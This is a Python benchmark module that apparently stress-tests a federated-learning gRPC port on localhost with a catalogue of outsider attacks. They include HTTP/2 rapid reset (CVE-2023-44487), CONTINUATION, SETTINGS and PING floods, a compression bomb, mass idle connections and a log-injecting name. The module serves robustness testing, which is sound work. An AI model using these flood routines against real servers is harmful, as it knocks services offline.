"""What a peer without a place in the federation can do to a port, for as long as it is let.

Each attack is called with a port of this machine and the time, on the monotonic clock, at which to
stop. `python -m benchmarks._outsider_attacks NAME PORT SECONDS` runs one.
"""

from __future__ import annotations

import asyncio
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from functools import partial

import grpc
import grpc.aio

from hierfl.link import frames, probe
from hierfl.link import link_pb2 as pb

Attack = Callable[[int, float], None]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
UNLIMITED = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]


def left(until: float) -> Iterator[None]:
    """Go on until the time has come."""
    while time.monotonic() < until:
        yield


def connect(port: int) -> socket.socket:
    """Return a connection whose calls wait for a second at most."""
    return socket.create_connection(("127.0.0.1", port), 1)


def h2(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """Return an HTTP/2 frame (RFC 9113, section 4.1)."""
    return (
        struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body
    )


def send(data: bytes, port: int, until: float) -> None:
    """Connect, send some bytes, and look what comes, again and again."""
    for _ in left(until):
        with suppress(OSError), connect(port) as one:
            one.sendall(data)
            one.settimeout(0.1)
            one.recv(64)


def flood(data: bytes, port: int, until: float) -> None:
    """Send some bytes after a preface of HTTP/2, without end; connect anew when cut."""
    for _ in left(until):
        with suppress(OSError), connect(port) as one:
            one.sendall(PREFACE + h2(4, 0, 0))
            for _ in left(until):
                one.sendall(data)


def rapid_reset(port: int, until: float) -> None:
    """Open streams and reset each at once (CVE-2023-44487)."""

    def header(key: bytes, value: bytes) -> bytes:
        return b"\x00" + bytes([len(key)]) + key + bytes([len(value)]) + value

    fields = {
        b":method": b"POST", b":scheme": b"http", b":path": frames.METHOD.encode(),
        b":authority": b"x", b"content-type": b"application/grpc", b"te": b"trailers",
    }  # fmt: skip
    block, cancel = b"".join(header(*field) for field in fields.items()), struct.pack(">I", 8)
    for _ in left(until):
        with suppress(OSError), connect(port) as one:
            one.sendall(PREFACE + h2(4, 0, 0))
            for first in range(1, 1_000_000, 200):
                if time.monotonic() >= until:
                    break
                streams = range(first, first + 200, 2)
                one.sendall(b"".join(h2(1, 4, i, block) + h2(3, 0, i, cancel) for i in streams))


def idle(count: int, first: bytes, port: int, until: float) -> None:
    """Hold connections that say no more than some first bytes."""
    with ExitStack() as held:
        with suppress(OSError):
            for _ in range(count):
                one = held.enter_context(connect(port))
                one.sendall(first)
        time.sleep(max(0.0, until - time.monotonic()))


def attach(first: list[bytes], port: int, until: float) -> None:
    """Open the link's stream, say something, and hear the answer, again and again."""
    with grpc.insecure_channel(f"127.0.0.1:{port}", UNLIMITED) as channel:
        for _ in left(until):
            with suppress(grpc.RpcError):
                list(channel.stream_stream(frames.METHOD)(iter(first), timeout=5))


def bomb(port: int, until: float) -> None:
    """Send 300 MB of zeros in a frame of 300 kB."""
    data = pb.Frame(progress=bytes(300_000_000)).SerializeToString()
    with grpc.insecure_channel(f"127.0.0.1:{port}", UNLIMITED) as channel:
        for _ in left(until):
            with suppress(grpc.RpcError):
                said = channel.stream_stream(frames.METHOD)
                list(said(iter([data]), timeout=5, compression=grpc.Compression.Gzip))


def many(work: Callable[[grpc.aio.Channel], object], at_once: int, port: int, until: float) -> None:
    """Do something many times at once on one connection, again and again."""

    async def go() -> None:
        async with grpc.aio.insecure_channel(f"127.0.0.1:{port}") as channel:
            for _ in left(until):
                tasks = [work(channel) for _ in range(at_once)]
                with suppress(TimeoutError):
                    async with asyncio.timeout(max(0.01, until - time.monotonic())):
                        await asyncio.gather(*tasks, return_exceptions=True)  # type: ignore[call-overload]

    asyncio.run(go())


async def refused(channel: grpc.aio.Channel) -> None:
    """Say hello under a long name that is nobody's."""
    call = channel.stream_stream(frames.METHOD)()
    await call.write(hello("x" * 60_000))
    async for _ in call:
        pass


async def silent(channel: grpc.aio.Channel) -> None:
    """Open a stream and say nothing."""
    async for _ in channel.stream_stream(frames.METHOD)():
        pass


async def ask(channel: grpc.aio.Channel) -> None:
    """Ask the port who it is."""
    await channel.unary_unary(probe.METHOD)(hello("nobody"))


def said(*contents: bytes) -> Attack:
    """Return the attack that says this on the link's stream."""
    return partial(attach, list(contents))


def hello(name: str, *, run: str = "", model: str = "") -> bytes:
    """Return the first frame of a child that knows nothing of the federation."""
    return frames.hello(name, run=run, model=model, plan="", instance="i")


OTHER = pb.Frame(hello=pb.Hello(name="east-0", protocol=99))
CONTINUED = h2(9, 0, 1, b"\x00\x01a\x01b" * 3000)

ATTACKS: dict[str, Attack] = {
    "TCP, no word": partial(idle, 1, b""),
    "500 idle TCP connections": partial(idle, 500, b""),
    "2,000 idle TCP connections": partial(idle, 2000, b""),
    "2,000 idle after their preface": partial(idle, 2000, PREFACE + h2(4, 0, 0)),
    "no hello": said(pb.Frame(message=b"x").SerializeToString()),
    "empty stream": said(),
    "a frame of noise": said(os.urandom(5000)),
    "a stranger's hello": said(hello("mallory")),
    "hello of a device that is there": said(hello("east-0")),
    "hello with an odd name": said(hello("\x1b[31mroot\nfake log line")),
    "hello of another version": said(OTHER.SerializeToString()),
    "hello of another run": said(hello("east-0", run="f00")),
    "hello of another model": said(hello("east-0", model="f00")),
    "a frame of 100 MB": said(pb.Frame(progress=bytes(100_000_000)).SerializeToString()),
    "300 MB in 300 kB": bomb,
    "HTTP/1": partial(send, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
    "TLS to a plain port": partial(send, bytes.fromhex("16030100c8010000c40303") + bytes(190)),
    "random bytes": partial(send, os.urandom(2000)),
    "bad HTTP/2 frames": partial(send, PREFACE + h2(4, 0, 0) + h2(9, 0, 1, os.urandom(50))),
    "SETTINGS flood": partial(flood, h2(4, 0, 0) * 1000),
    "PING flood": partial(flood, h2(6, 0, 0, b"12345678") * 1000),
    "CONTINUATION flood": partial(flood, h2(1, 0, 1, b"\x00\x01a\x01b") + CONTINUED * 100),
    "rapid reset": rapid_reset,
    "10,000 streams": partial(many, silent, 10_000),
    "refused hellos": partial(many, refused, 100),
    "questions who it is": partial(many, ask, 200),
}  # fmt: skip


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](int(sys.argv[2]), time.monotonic() + float(sys.argv[3]))
